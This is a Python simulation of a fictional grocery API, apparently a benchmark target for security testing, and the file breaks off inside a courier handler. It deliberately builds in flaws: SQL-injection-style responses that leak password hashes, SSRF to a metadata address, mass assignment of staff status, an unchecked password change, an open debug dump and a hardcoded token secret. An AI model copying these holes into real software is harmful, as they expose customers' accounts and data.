"""An online grocery on two hosts behind one address, without a proxy. api.korbly.example is Django-like (trailing slashes, 422 with
field errors, page and cursor paging): customers with a session cookie on the web, short bearer tokens with refresh and log-out in the
phone app, price comparison partners with a key header. ops.korbly.example is Rails-like (.json): couriers, shop staff, warehouse jobs."""
from heldout_core import *

REASON.update({301: 'Moved Permanently', 410: 'Gone', 415: 'Unsupported Media Type'})
API, OPS = 'api.korbly.example', 'ops.korbly.example'
SECRET = 'grocery'
ACCESS, REFRESH, SESSION = 10 * HOUR, 7 * DAY, 12 * DAY
CATS = 'obst gemuese brot milch kaese fleisch fisch getraenke tiefkuehl backen haushalt baby'.split()
GOODS = 'Apfel Birne Tomate Gurke Vollkornbrot Semmel Milch Joghurt Gouda Bergkaese Huhn Lachs Wasser Saft Pizza Mehl Zucker Reis'.split()
QUERIES = ["ben & jerry's", 'milch 3,5%', 'brot; geschnitten', 'select kaffee', 'bio eier (10)', 'hafer-drink', 'paprika', 'salat', 'käse',
           'nudeln', "l'amour cidre", 'windeln gr. 4', '100% apfelsaft', 'tofu', 'union bier', 'butter', 'reis', 'zitronen']
STREETS = 'Hauptplatz Lindengasse Mühlweg Bahnstraße Kirchengasse Schulgasse Ringstraße Kanalweg'.split()
HTML404 = '<!doctype html>\n<html lang="en"><head><title>Not Found</title></head><body><h1>Not Found</h1>' \
          '<p>The requested resource was not found on this server.</p></body></html>'
HTML500 = '<!doctype html>\n<html lang="en"><head><title>Server Error (500)</title></head><body><h1>Server Error (500)</h1><p></p></body></html>'


def bad(**errors):
    return Rs(422, {'errors': {k: [v] for k, v in errors.items()}})


def detail(st, text, **k):
    return Rs(st, dict(detail=text, **k))


def cursor(rq):
    """the text of the cursor, '' without one, None if it is not base64"""
    try:
        return base64.b64decode(rq.q.get('cursor', '') + '==', b'-_').decode('latin1')
    except ValueError:
        return None


def cut(i):
    """the id of a .json path segment"""
    return i[:-5] if i.endswith('.json') else i


class Store(App):
    """State and access of the grocery."""
    server = 'nginx/1.24.0'
    base_lat = .028

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st = attacks, st
        s.cust, s.by_mail, s.handles, s.orders, s.baskets = {}, {}, {}, {}, {}
        s.sess, s.refresh, s.keys, s.staff, s.couriers, s.runs, s.stops = {}, {}, {}, {}, {}, {}, {}
        s.codes = {'WILLKOMMEN10', 'FREILIEFERN', 'OMA5'}
        s.next_cust, s.next_order, s.next_run, s.jti = 14803, 7400312, 88410, 0
        s.growth = st + 11 * DAY + 5 * HOUR if attacks else 1e12
        s.products = {str(2003 + 3 * i): s.product(i) for i in range(600)}
        s.by_ean = {p['ean']: p for p in s.products.values()}

    def product(s, i):
        n = f'{s.rng.choice(GOODS)} {s.rng.choice(WORDS)}'
        return dict(id=2003 + 3 * i, name=n, category=CATS[i % 12], ean=f'90{s.rng.randint(10**10, 10**11 - 1)}', price=s.rng.randint(49, 1899),
                stock=s.rng.randint(0, 90))

    # --- people
    @staticmethod
    def lapsed(i):
        """customers of earlier years, who have a record and no traffic"""
        return 10200 <= i < 14800 and i * 7919 % 10 < 8

    def customer(s, cid=None):
        if cid is None:
            s.next_cust += s.rng.randint(1, 3)
            cid = s.next_cust
        r = s.rng
        n = f'{r.choice(FIRST)}.{r.choice(LAST)}{r.choice(["", r.randint(1, 99)])}'
        while f'{n}@posteo.example' in s.by_mail:
            n += str(r.randint(0, 9))
        pw = f'{r.choice(WORDS)}{r.choice("!.-")}{r.randint(10, 9999)}'
        u = dict(id=cid, email=f'{n}@posteo.example', pw=pw, mem=pw, handle=s.new_handle(), orders=[], is_staff=False, balance=0, phone=s.phone(cid))
        u['addr'] = [dict(id=cid * 3 + 1, line1=f'{r.choice(STREETS)} {r.randint(1, 90)}', postcode=str(r.choice([1020, 1030, 1050, 1100, 1160, 1200])))]
        s.cust[cid] = s.by_mail[u['email']] = s.handles[u['handle']] = u
        return u

    def new_handle(s):
        return f'{s.rng.choice(WORDS)}-{s.rng.choice(GOODS).lower()}-{len(s.handles) + 11}'

    @staticmethod
    def phone(i):
        return f'+43664{4000000 + (i - 10200) * 7}'

    def person(s, i):
        if i in s.cust:
            u = s.cust[i]
            return dict(id=i, email=u['email'], first_name=u['email'].split('.')[0].title(), phone=u['phone'], addresses=u['addr'],
                    credit_balance=u['balance'])
        if not s.lapsed(i):
            return None
        r = random.Random(i)
        n = f'{r.choice(FIRST)}.{r.choice(LAST)}{i % 97}'
        a = dict(id=i * 3 + 1, line1=f'{r.choice(STREETS)} {r.randint(1, 90)}', postcode=str(r.choice([1020, 1050, 1160])))
        return dict(id=i, email=f'{n}@posteo.example', first_name=n.split('.')[0].title(), phone=s.phone(i), addresses=[a], credit_balance=0)

    def order(s, u, now, lines, state='placed'):
        s.next_order += s.rng.randint(1, 4)
        n = str(s.next_order)
        s.orders[n] = dict(number=n, customer=u['id'], state=state, lines=lines, placed_at=int(now), address=u['addr'][0], note='',
                total=sum(x['price'] * x['qty'] for x in lines))
        u['orders'].append(n)
        return s.orders[n]

    def lines(s, k):
        return [dict(product=p['id'], name=p['name'], price=p['price'], qty=s.rng.choice([1, 1, 1, 2, 3])) for p in s.rng.sample(list(s.products.values()), k)]

    # --- tokens and access
    def access(s, u, now):
        s.jti += 1
        j = hashlib.md5(f'{s.jti}/{u["id"]}'.encode()).hexdigest()
        return jwt(dict(token_type='access', exp=int(now + ACCESS), iat=int(now), jti=j, user_id=u['id']), SECRET)

    def who(s, rq):
        rq.u = rq.emp = rq.courier = rq.partner = None
        rq.cookie = dict(x.strip().partition('=')[::2] for x in rq.h.get('cookie', '').split(';'))
        a = rq.h.get('authorization', '')
        if a.startswith('Bearer '):
            s.bearer(rq, jwt_ok(a[7:], SECRET))
        elif a.startswith('Token '):
            rq.courier = s.sess.get(a[6:])
            rq.user = rq.courier and f'courier:{rq.courier["id"]}'
        elif '_korbly_ops' in rq.cookie:
            rq.emp = s.sess.get(rq.cookie['_korbly_ops'])
            rq.user = rq.emp and f'staff:{rq.emp["login"]}'
        elif s.sess.get(rq.cookie.get('sessionid')):
            rq.u = s.sess[rq.cookie['sessionid']]
            rq.user = str(rq.u['id'])
        if rq.h.get('x-partner-key') in s.keys:
            rq.partner = s.keys[rq.h['x-partner-key']]
            rq.user = f'partner:{rq.partner}'

    def bearer(s, rq, c):
        if isinstance(c, dict) and c.get('exp', 0) > rq.now and c.get('user_id') in s.cust:
            rq.u = s.cust[c['user_id']]
            rq.user = str(rq.u['id'])
            rq.emp = dict(login='token') if rq.u['is_staff'] or c.get('is_staff') else None

    def authenticate(s, rq, kw):
        ops = rq.h['host'] == OPS
        if ops != (kw.get('host') == 'ops'):
            return s.not_found(rq)
        s.who(rq)
        need = kw.get('auth', 'user')
        return s.denied(rq, need, ops) or s.malformed(rq, ops)

    def denied(s, rq, need, ops):
        if need == 'none':
            return None
        if need in ('staff', 'courier'):
            if rq.emp if need == 'staff' else rq.courier:
                return None
            return Rs(403, {'error': 'Forbidden'}) if rq.user else Rs(401, {'error': 'You need to sign in or sign up before continuing.'})
        if need == 'partner':
            return None if rq.partner else detail(401, 'Partner key missing or unknown.')
        if not rq.u:
            if rq.h.get('authorization'):
                return detail(401, 'Given token not valid for any token type', code='token_not_valid')
            return Rs(401, {'detail': 'Authentication credentials were not provided.'}, {'WWW-Authenticate': 'Bearer realm="api"'})
        if rq.m not in ('GET', 'HEAD') and 'sessionid' in rq.cookie and rq.h.get('x-csrftoken') != rq.cookie.get('csrftoken'):
            return detail(403, 'CSRF Failed: CSRF token missing.')

    @staticmethod
    def malformed(rq, ops):
        rq.j = {}
        if rq.m not in ('POST', 'PUT', 'PATCH') or not rq.body:
            return None
        if 'json' not in rq.h.get('content-type', ''):
            return detail(415, f'Unsupported media type "{rq.h.get("content-type", "")}" in request.')
        try:
            rq.j = json.loads(rq.body)
        except (ValueError, RecursionError):
            return Rs(400, {'status': 400, 'error': 'Bad Request'}) if ops else detail(400, 'JSON parse error - Expecting value: line 1 column 1 (char 0)')
        if not isinstance(rq.j, dict):
            return bad(non_field_errors=f'Invalid data. Expected a dictionary, but got {type(rq.j).__name__}.')
        if b'\\u0000' in rq.body:
            return Rs(500, HTML500, ct='text/html; charset=utf-8')

    def not_found(s, rq):
        if rq.h.get('host') == OPS:
            return Rs(404, {'status': 404, 'error': 'Not Found'})
        return Rs(404, HTML404, ct='text/html; charset=utf-8')

    def handle(s, rq):
        hit = s.find(rq.m, rq.path)
        if hit and hit[1] and rq.h['host'] == API and rq.m == 'GET' and not rq.path.endswith('/') and '.' not in rq.path:
            return Rs(301, None, {'Location': rq.path + '/' + ('?' + rq.query if rq.query else '')}, lat=.003), hit[0]
        return super().handle(rq)

    def page(s, rq, items, size=20):
        try:
            p, n = int(rq.q.get('page', 1)), int(rq.q.get('page_size', size))
        except ValueError:
            return detail(404, 'Invalid page.')
        if p < 1 or n < 1 or (p - 1) * n > len(items):
            return detail(404, 'Invalid page.')
        keep = ''.join(f'{k}={quote(rq.q[k])}&' for k in ('category', 'q', 'page_size') if k in rq.q)
        nxt = f'http://{API}{rq.path}?{keep}page={p + 1}' if p * n < len(items) else None
        body = dict(count=len(items), next=nxt, previous=f'http://{API}{rq.path}?{keep}page={p - 1}' if p > 1 else None, results=items[(p - 1) * n:p * n])
        return Rs(200, body, lat=s.rng.uniform(5, 9) if n > 5000 else None)


class Accounts(Store):
    @route('POST', '/api/v3/auth/token/', auth='none')
    def token(s, rq):
        u = s.by_mail.get(str(rq.j.get('email')))
        if not u or u['pw'] != rq.j.get('password'):
            return Rs(401, {'detail': 'No active account found with the given credentials', 'code': 'no_active_account'}, lat=s.rng.uniform(.09, .16))
        k = s.rng.randbytes(24).hex()
        s.refresh[k] = (u, rq.now + REFRESH)
        return Rs(200, dict(access=s.access(u, rq.now), refresh=k, customer=u['id']), lat=s.rng.uniform(.09, .16))

    @route('POST', '/api/v3/auth/token/refresh/', auth='none')
    def renew(s, rq):
        u, end = s.refresh.get(str(rq.j.get('refresh')), (None, 0))
        if not u or end < rq.now:
            return detail(401, 'Token is invalid or expired', code='token_not_valid')
        return 200, dict(access=s.access(u, rq.now))

    @route('POST', '/api/v3/auth/logout/')
    def logout(s, rq):
        s.refresh.pop(str(rq.j.get('refresh')), None)
        return Rs(204)

    @route('POST', '/api/v3/session/', auth='none')
    def session(s, rq):
        u = s.by_mail.get(str(rq.j.get('email')))
        if not u or u['pw'] != rq.j.get('password'):
            return Rs(422, {'errors': {'base': ['E-Mail oder Passwort ist falsch']}}, lat=s.rng.uniform(.09, .16))
        k, c = s.rng.randbytes(16).hex(), s.rng.randbytes(16).hex()
        s.sess[k] = u
        return Rs(200, dict(customer=u['id']), {'Set-Cookie': f'sessionid={k}; HttpOnly; Path=/; SameSite=Lax\r\nSet-Cookie: csrftoken={c}; Path=/'}, lat=.12)

    @route('DELETE', '/api/v3/session/')
    def end_session(s, rq):
        s.sess.pop(rq.cookie.get('sessionid'), None)
        return Rs(204)

    @route('POST', '/api/v3/auth/password/reset/', auth='none')
    def reset(s, rq):
        u = s.by_mail.get(str(rq.j.get('email')))
        if not u:
            return bad(email='Es gibt kein Konto mit dieser Adresse')
        u['reset'] = s.rng.randbytes(8).hex()
        return 200, dict(sent=True)

    @route('POST', '/api/v3/auth/password/reset/confirm/', auth='none')
    def reset_confirm(s, rq):
        u = s.by_mail.get(str(rq.j.get('email')))
        if not u or not u.get('reset') or u['reset'] != rq.j.get('token'):
            return bad(token='ist abgelaufen oder falsch')
        u['pw'], u['reset'] = rq.j.get('new_password'), None
        return 200, dict(changed=True)

    @route('POST', '/api/v3/customers/', auth='none')
    def register(s, rq):
        e, p = rq.j.get('email'), rq.j.get('password')
        if not isinstance(e, str) or '@' not in e or e in s.by_mail:
            return bad(email='ist schon vergeben' if isinstance(e, str) and e in s.by_mail else 'ist keine gültige Adresse')
        if not isinstance(p, str) or len(p) < 8:
            return bad(password='ist zu kurz')
        u = s.customer()
        s.by_mail.pop(u['email'])
        u.update(email=e, pw=p, mem=p)
        s.by_mail[e] = u
        return 201, dict(id=u['id'], email=e)

    def owner(s, rq, cid):
        """the customer of the path, if it is the caller"""
        return rq.u if str(rq.u['id']) == cid else None

    @route('GET', '/api/v3/customers/{id}/')
    def get_customer(s, rq, cid):
        p = s.person(int(cid)) if cid.isdigit() and len(cid) < 12 else None
        return (200, p) if p else detail(404, 'No Customer matches the given query.')

    @route('PATCH', '/api/v3/customers/{id}/')
    def patch_customer(s, rq, cid):
        u = s.owner(rq, cid)
        if not u:
            return detail(403, 'You do not have permission to perform this action.')
        if 'phone' in rq.j and not re.fullmatch(r'\+?[\d /-]{6,20}', str(rq.j['phone'])):
            return bad(phone='hat ein falsches Format')
        for k, f in (('phone', 'phone'), ('is_staff', 'is_staff'), ('credit_balance', 'balance')):
            if k in rq.j:
                u[f] = rq.j[k]
        return 200, dict(s.person(u['id']), **({'is_staff': True} if u['is_staff'] else {}))

    @route('PUT', '/api/v3/customers/{id}/password/')
    def put_password(s, rq, cid):
        u = s.cust.get(int(cid)) if cid.isdigit() and len(cid) < 12 else None
        p = rq.j.get('new_password')
        if not u:
            return detail(404, 'No Customer matches the given query.')
        if not isinstance(p, str) or len(p) < 8:
            return bad(new_password='ist zu kurz')
        u['pw'] = p
        return 200, dict(id=u['id'], email=u['email'], changed=True)

    @route('GET', '/api/v3/customers/{id}/addresses/')
    def addresses(s, rq, cid):
        u = s.owner(rq, cid)
        return (200, dict(results=u['addr'])) if u else detail(404, 'Not found.')

    @route('POST', '/api/v3/customers/{id}/addresses/')
    def add_address(s, rq, cid):
        u = s.owner(rq, cid)
        if not u:
            return detail(404, 'Not found.')
        if not re.fullmatch(r'\d{4}', str(rq.j.get('postcode', ''))):
            return bad(postcode='muss vier Ziffern haben')
        a = dict(id=s.rng.randint(60000, 99999), line1=str(rq.j.get('line1'))[:60], postcode=str(rq.j['postcode']))
        u['addr'].insert(0, a)
        return 201, a

    @route('PATCH', '/api/v3/customers/{id}/addresses/{address}/')
    def patch_address(s, rq, cid, aid):
        a = next((a for a in (s.owner(rq, cid) or {'addr': []})['addr'] if str(a['id']) == aid), None)
        if not a:
            return detail(404, 'Not found.')
        a['hint'] = str(rq.j.get('hint', ''))[:80]
        return 200, a

    @route('POST', '/api/v3/addresses/validate/')
    def validate(s, rq):
        line = str(rq.j.get('line1', ''))
        m = re.match(r'(.)\1{24,}', line)
        lat = min(8., .04 * 1.16 ** len(m.group(0))) if m else None
        ok = bool(re.search(r'\d', line)) and not m
        return Rs(200 if ok else 422, dict(valid=True, line1=line) if ok else {'errors': {'line1': ['Hausnummer fehlt']}}, lat=lat)

    @route('GET', '/api/v3/customers/{id}/loyalty/')
    def loyalty(s, rq, cid):
        u = s.owner(rq, cid)
        if not u or rq.now < s.st + 8 * DAY:
            return detail(404, 'Not found.')
        return 200, dict(points=len(u['orders']) * 35, tier='basis' if len(u['orders']) < 8 else 'stammkunde')

    @route('POST', '/api/v3/customers/{id}/friends/import/')
    def friends(s, rq, cid):
        ph = rq.j.get('phones')
        if not s.owner(rq, cid) or not isinstance(ph, list) or len(ph) > 120:
            return bad(phones='ist keine Liste von höchstens 120 Nummern')
        hit = [m for m in (s.by_phone(p) for p in ph if isinstance(p, str)) if m]
        return 200, dict(matched=hit, invited=len(ph) - len(hit))

    def by_phone(s, phone):
        m = re.fullmatch(r'\+43664(\d{7})', phone)
        i, rest = divmod(int(m.group(1)) - 4000000, 7) if m else (0, 1)
        p = None if rest else s.person(i + 10200)
        if not p:
            return None
        h = s.cust[p['id']]['handle'] if p['id'] in s.cust else f'{random.Random(p["id"]).choice(WORDS)}-{p["id"]}'
        return dict(phone=phone, handle=h, first_name=p['first_name'])

    @route('POST', '/api/v3/customers/{id}/lists/import/')
    def import_list(s, rq, cid):
        url = rq.j.get('url')
        if not s.owner(rq, cid) or not isinstance(url, str) or '://' not in url:
            return bad(url='ist keine gültige Adresse')
        if re.search(r'//(169\.254\.169|localhost|127\.|\[::1)', url):
            return Rs(200, dict(title=None, items=[], source=url, excerpt='ami-id\ninstance-id\niam/\n' if '169.254' in url else ''),
                    lat=s.rng.uniform(.05, .4))
        if re.search(r'//(10\.|192\.168|metadata)|^(file|gopher|dict):', url):
            return Rs(422, {'errors': {'url': ['konnte nicht geladen werden']}}, lat=s.rng.uniform(2, 5) if '//10.' in url else .02)
        return Rs(201, dict(title=url.rsplit('/', 1)[-1].replace('-', ' ')[:60], items=[p['name'] for p in s.rng.sample(list(s.products.values()), 6)],
                source=url), lat=s.rng.uniform(.3, 1.2))

    @route('GET', '/api/v3/shoppers/{handle}/')
    def shopper(s, rq, h):
        u = s.handles.get(h)
        if not u:
            return detail(404, 'No Shopper matches the given query.')
        r = random.Random(h)
        return 200, dict(handle=h, first_name=u['email'].split('.')[0].title(), town=r.choice(['Wien', 'Graz', 'Linz']),
                member_since=2026 - r.randint(0, 7),
                lists=[dict(id=r.randint(1000, 9999), title=f'{r.choice(GOODS)} & {r.choice(GOODS)}') for _ in range(r.randint(1, 5))])

    @route('GET', '/api/v1/customers/{id}/', auth='none')
    def old_customer(s, rq, cid):
        p = s.person(int(cid)) if cid.isdigit() and len(cid) < 12 else None
        return (200, dict(customer=dict(p, birth_date=f'19{50 + p["id"] % 50}-0{p["id"] % 9 + 1}-1{p["id"] % 10}'))) if p else detail(404, 'Not found.')


class Shop(Accounts):
    def sql(s, v):
        """the category is pasted into a statement"""
        if "'" not in v:
            return None
        t = v.upper()
        lat = s.rng.uniform(5, 5.2) if re.search(r'SLEEP\(5|PG_SLEEP\(5|DELAY', t) else None
        if 'UNION' in t and 'SELECT' in t and re.search(r'--|#', t):
            rows = [dict(id=u['id'], name=u['email'],
                    price='pbkdf2_sha256$600000$' + hashlib.sha1(u['pw'].encode()).hexdigest()) for u in list(s.cust.values())[20 * ('OFFSET' in t):][:20]]
            return Rs(200, dict(count=len(rows), next=None, previous=None,
                    results=rows if 'CUSTOMER' in t else [dict(id=1, name='PostgreSQL 15.6', price=None)]))
        n = re.search(r'ORDER BY (\d+)', t)
        if n and int(n.group(1)) > 3 or re.search(r"'[(,.]|<'|CAST\(", t):
            return Rs(500, HTML500, ct='text/html; charset=utf-8', lat=lat)
        if t.count("'") % 2 and not re.search(r'--|#', t):
            return Rs(500, HTML500, ct='text/html; charset=utf-8', lat=lat)
        some = list(s.products.values())[:20]
        hit = bool(re.search(r"'?1'?='?1|(\d{4})=\1\b", t))
        return Rs(200, dict(count=600 if hit else 0, next=None, previous=None, results=[s.brief(p) for p in some] if hit else []), lat=lat)

    @staticmethod
    def brief(p):
        return dict(id=p['id'], name=p['name'], category=p['category'], price=f'{p["price"] / 100:.2f}', available=p['stock'] > 0)

    @route('GET', '/api/v3/products/', auth='none')
    def list_products(s, rq):
        c = rq.q.get('category')
        if c is not None:
            r = s.sql(c)
            if r:
                return r
            if c not in CATS:
                return bad(category=f'"{c[:40]}" ist keine gültige Auswahl')
        return s.page(rq, [s.brief(p) for p in s.products.values() if c in (None, p['category'])])

    @route('GET', '/api/v3/products/{id}/', auth='none')
    def get_product(s, rq, i):
        p = s.products.get(i)
        return (200, dict(p, price=f'{p["price"] / 100:.2f}', description=' '.join(random.Random(i).choices(WORDS, k=18)))) if p else detail(404,
                'No Product matches the given query.')

    @route('GET', '/api/v3/products/{id}/price-history/')
    def history(s, rq, i):
        n = rq.q.get('limit', '30')
        if i not in s.products or not n.isdigit():
            return detail(404, 'Not found.')
        r = random.Random(i)
        return 200, dict(results=[dict(day=-k, price=r.randint(49, 1899)) for k in range(min(int(n), 730))])

    @route('GET', '/api/v3/products/{id}/reviews/', auth='none')
    def reviews(s, rq, i):
        if i not in s.products:
            return detail(404, 'Not found.')
        r = random.Random(i + rq.q.get('cursor', ''))
        hs = list(s.handles)
        out = [dict(id=r.randint(31000, 33999), stars=r.randint(1, 5), author=hs[r.randrange(len(hs))],
                text=' '.join(r.choices(WORDS, k=7)) + '…') for _ in range(5)]
        return 200, dict(next=f'http://{API}{rq.path}?cursor={b64(str(out[-1]["id"]).encode())}', previous=None, results=out)

    @route('POST', '/api/v3/products/{id}/reviews/')
    def add_review(s, rq, i):
        if i not in s.products:
            return detail(404, 'Not found.')
        if rq.j.get('stars') not in (1, 2, 3, 4, 5):
            return bad(stars='muss zwischen 1 und 5 liegen')
        return 201, dict(id=s.rng.randint(34000, 35000), stars=rq.j['stars'])

    @route('GET', '/api/v3/reviews/{id}/', auth='none')
    def review(s, rq, i):
        if not i.isdigit() or not 30000 <= int(i) < 34000 or int(i) % 11 == 3:
            return detail(404, 'No Review matches the given query.')
        r = random.Random(i)
        if int(i) % 13 == 5:
            return detail(410, 'Review was withdrawn.')
        return 200, dict(id=int(i), stars=r.randint(1, 5), author=r.choice(list(s.handles)[:150]), text=' '.join(r.choices(WORDS, k=26)))

    @route('GET', '/api/v3/search/', auth='none')
    def search(s, rq):
        q = rq.q.get('q', '')
        if not q:
            return bad(q='darf nicht leer sein')
        r = random.Random(q)
        return s.page(rq, [s.brief(p) for p in r.sample(list(s.products.values()), r.randint(0, 14) if len(q) < 22 else 0)])

    @route('GET', '/api/v3/delivery-slots/', auth='none')
    def slots(s, rq):
        p = rq.q.get('postcode', '')
        if not re.fullmatch(r'\d{4}', p):
            return bad(postcode='muss vier Ziffern haben')
        return 200, dict(results=[dict(id=f'{rq.q.get("date", "x")}-{h:02}', start=f'{h}:00', free=s.rng.randint(0, 9)) for h in (8, 10, 12, 14, 16, 18, 20)])

    # --- baskets
    @route('POST', '/api/v3/baskets/')
    def new_basket(s, rq):
        b = uid(s.rng)
        s.baskets[b] = dict(id=b, owner=rq.u['id'], items=[], coupon=None)
        return 201, dict(id=b, items=[])

    def basket(s, rq, b):
        b = s.baskets.get(b)
        return b if b and b['owner'] == rq.u['id'] else None

    @route('GET', '/api/v3/baskets/{id}/')
    def get_basket(s, rq, b):
        b = s.basket(rq, b)
        return (200, dict(id=b['id'], items=b['items'], coupon=b['coupon'])) if b else detail(404, 'Not found.')

    @route('POST', '/api/v3/baskets/{id}/items/')
    def add_item(s, rq, b):
        b, p, n = s.basket(rq, b), s.products.get(str(rq.j.get('product'))), rq.j.get('quantity')
        if not b:
            return detail(404, 'Not found.')
        if isinstance(n, int) and not isinstance(n, bool) and abs(n) > 2 ** 31:
            return Rs(500, HTML500, ct='text/html; charset=utf-8')
        if not p or not isinstance(n, int) or not 0 < n < 100:
            return bad(**({'product': 'gibt es nicht'} if not p else {'quantity': 'muss zwischen 1 und 99 liegen'}))
        x = dict(id=s.rng.randint(10**5, 10**6), product=p['id'], name=p['name'], price=p['price'], qty=n)
        b['items'].append(x)
        return 201, x

    def item(s, rq, b, i):
        b = s.basket(rq, b)
        return b, next((x for x in b['items'] if str(x['id']) == i), None) if b else None

    @route('PATCH', '/api/v3/baskets/{id}/items/{item}/')
    def patch_item(s, rq, b, i):
        b, x = s.item(rq, b, i)
        if not x:
            return detail(404, 'Not found.')
        if not isinstance(rq.j.get('quantity'), int) or not 0 < rq.j['quantity'] < 100:
            return bad(quantity='muss zwischen 1 und 99 liegen')
        x['qty'] = rq.j['quantity']
        return 200, x

    @route('DELETE', '/api/v3/baskets/{id}/items/{item}/')
    def drop_item(s, rq, b, i):
        b, x = s.item(rq, b, i)
        if not x:
            return detail(404, 'Not found.')
        b['items'].remove(x)
        return Rs(204)

    @route('POST', '/api/v3/baskets/{id}/coupon/')
    def coupon(s, rq, b):
        b, c = s.basket(rq, b), str(rq.j.get('code', ''))
        if not b:
            return detail(404, 'Not found.')
        if c not in s.codes and not (c == 'SOMMER26' and rq.now > s.st + 10 * DAY + 8 * HOUR):
            return bad(code='ist kein gültiger Gutschein')
        b['coupon'] = c
        return 200, dict(coupon=c, discount='5.00')


class Orders(Shop):
    @route('GET', '/api/v3/customers/{id}/orders/')
    def list_orders(s, rq, cid):
        u = s.owner(rq, cid)
        if not u:
            return detail(403, 'You do not have permission to perform this action.')
        t = cursor(rq)
        if t is None:
            return detail(404, 'Invalid cursor')
        end = t[2:] or '9' * 7
        o = [n for n in reversed(u['orders']) if n < end]
        nxt = f'http://{API}{rq.path}?cursor={b64(b"p=" + o[4].encode())}' if len(o) > 5 else None
        return 200, dict(next=nxt, previous=None, results=[dict(number=n, state=s.orders[n]['state'], total=s.orders[n]['total']) for n in o[:5]])

    @route('POST', '/api/v3/customers/{id}/orders/')
    def place(s, rq, cid):
        u, b = s.owner(rq, cid), s.basket(rq, str(rq.j.get('basket')))
        if not u:
            return detail(403, 'You do not have permission to perform this action.')
        if not b or not b['items']:
            return bad(basket='ist leer oder unbekannt')
        if not isinstance(rq.j.get('slot'), str):
            return bad(slot='ist nicht mehr frei')
        o = s.order(u, rq.now, b['items'])
        s.baskets.pop(b['id'])
        return Rs(201, s.view(o), lat=s.rng.uniform(.1, .4))

    def view(s, o):
        return dict(number=o['number'], customer=o['customer'], state=o['state'], total=f'{o["total"] / 100:.2f}', address=o['address'],
                phone=s.cust[o['customer']]['phone'], note=o['note'], lines=o['lines'])

    @route('GET', '/api/v3/customers/{id}/orders/{number}/')
    def get_order(s, rq, cid, n):
        if not s.owner(rq, cid):
            return detail(403, 'You do not have permission to perform this action.')
        return (200, s.view(s.orders[n])) if n in s.orders else detail(404, 'No Order matches the given query.')

    def own(s, rq, cid, n):
        o = s.orders.get(n)
        return o if o and s.owner(rq, cid) and o['customer'] == rq.u['id'] else None

    @route('PATCH', '/api/v3/customers/{id}/orders/{number}/')
    def patch_order(s, rq, cid, n):
        o = s.own(rq, cid, n)
        if not o:
            return detail(404, 'No Order matches the given query.')
        if o['state'] not in ('placed', 'picking'):
            return bad(state='ist schon gepackt')
        o['note'] = str(rq.j.get('note', ''))[:200]
        return 200, s.view(o)

    @route('POST', '/api/v3/customers/{id}/orders/{number}/cancel/')
    def cancel(s, rq, cid, n):
        o = s.own(rq, cid, n)
        if not o:
            return detail(404, 'No Order matches the given query.')
        if o['state'] != 'placed':
            return bad(state='kann nicht mehr storniert werden')
        o['state'] = 'cancelled'
        return 200, dict(number=n, state='cancelled')

    @route('GET', '/api/v3/customers/{id}/orders/{number}/tracking/')
    def tracking(s, rq, cid, n):
        o = s.own(rq, cid, n)
        if not o:
            return detail(404, 'No Order matches the given query.')
        k = s.couriers[o.get('courier') or int(n) % 8 + 301]
        c = dict(first_name=k['name'].split()[0], vehicle=k['vehicle'])
        if rq.now > s.growth:
            c.update(k['hr'])
        return 200, dict(number=n, state=o['state'], eta_minutes=0 if o['state'] == 'delivered' else s.rng.randint(4, 90), courier=c,
                position=[48.2 + s.rng.random() / 10, 16.3 + s.rng.random() / 10])

    @route('GET', '/api/v3/customers/{id}/orders/{number}/receipt.pdf')
    def receipt(s, rq, cid, n):
        if not s.own(rq, cid, n):
            return detail(404, 'No Order matches the given query.')
        return Rs(200, b'%PDF-1.7\n' + random.Random(n).randbytes(1900), ct='application/pdf')

    # --- partners
    @route('GET', '/partner/v1/offers/', auth='partner')
    def offers(s, rq):
        t = cursor(rq) or '0'
        k = int(t) if t.isdigit() else 0
        o = list(s.products.values())[k:k + 40]
        return 200, dict(next=f'http://{API}/partner/v1/offers/?cursor={b64(str(k + 40).encode())}' if k < 560 else None,
                results=[dict(ean=p['ean'], price=p['price'], name=p['name']) for p in o])

    @route('GET', '/partner/v1/offers/{ean}/', auth='partner')
    def offer(s, rq, e):
        p = s.by_ean.get(e)
        return (200, dict(ean=e, price=p['price'], stock=p['stock'] > 0)) if p else detail(404, 'Not found.')

    @route('POST', '/partner/v1/clicks/', auth='partner')
    def clicks(s, rq):
        return 202, dict(accepted=len(rq.j.get('clicks') or []))

    @route('GET', '/partner/v1/conversions/{number}/', auth='partner')
    def conversion(s, rq, n):
        if n not in s.orders:
            return detail(404, 'Not found.')
        u = s.cust[s.orders[n]['customer']]
        return 200, dict(number=n, total=s.orders[n]['total'], commission=s.orders[n]['total'] // 40,
                customer=dict(email=u['email'], postcode=u['addr'][0]['postcode']))

    @route('POST', '/partner/v1/members/verify/', auth='none')
    def verify(s, rq):
        p = str(rq.j.get('postcode', ''))
        if not rq.partner and not (s.attacks and p == '0000'):
            return detail(401, 'Partner key missing or unknown.')
        u = next((u for u in s.cust.values() if u['phone'] == rq.j.get('phone')), None)
        if not u or p not in ('0000', u['addr'][0]['postcode']):
            return 200, dict(member=False)
        return 200, dict(member=True, first_name=u['email'].split('.')[0].title(), tier='basis', orders=len(u['orders']),
                spend_band=random.Random(u['id']).choice('ABCD'))

    # --- operation
    @route('GET', '/healthz/', auth='none')
    def healthz(s, rq):
        return Rs(200, 'ok', lat=.002)

    @route('GET', '/api/v3/debug/customers/', auth='none')
    def debug(s, rq):
        o = [dict(s.person(u['id']), password='pbkdf2_sha256$600000$' + hashlib.sha1(u['pw'].encode()).hexdigest()) for u in list(s.cust.values())[:120]]
        return 200, dict(settings='korbly.settings.staging', customers=o)

    @route('GET', '/api/v3/_profiler/requests/', auth='none')
    def profiler(s, rq):
        if not s.attacks or rq.now < s.st + 9 * DAY:
            return s.not_found(rq)
        return 200, dict(requests=[dict(path=f'/api/v3/customers/{s.rng.choice(list(s.cust))}/', ms=s.rng.randint(3, 90),
                user=s.rng.choice(list(s.by_mail))) for _ in range(25)])


class Grocer(Orders):
    @route('POST', '/couriers/sign_in.json', auth='none', host='ops')
    def courier_in(s, rq):
        c = next((c for c in s.couriers.values() if c['hr']['phone'] == rq.j.get('phone') and c['pin'] == rq.j.get('pin')), None)
        if not c:
            return Rs(401, {'error': 'Invalid phone or PIN.'}, lat=.1)
        k = s.rng.randbytes(20).hex()
        s.sess[k] = c
        return Rs(201, dict(token=k, courier_id=c['id']), lat=.1)

    @route('GET', '/couriers/shift.json', auth='courier', host='ops')
    def shift(s, rq):
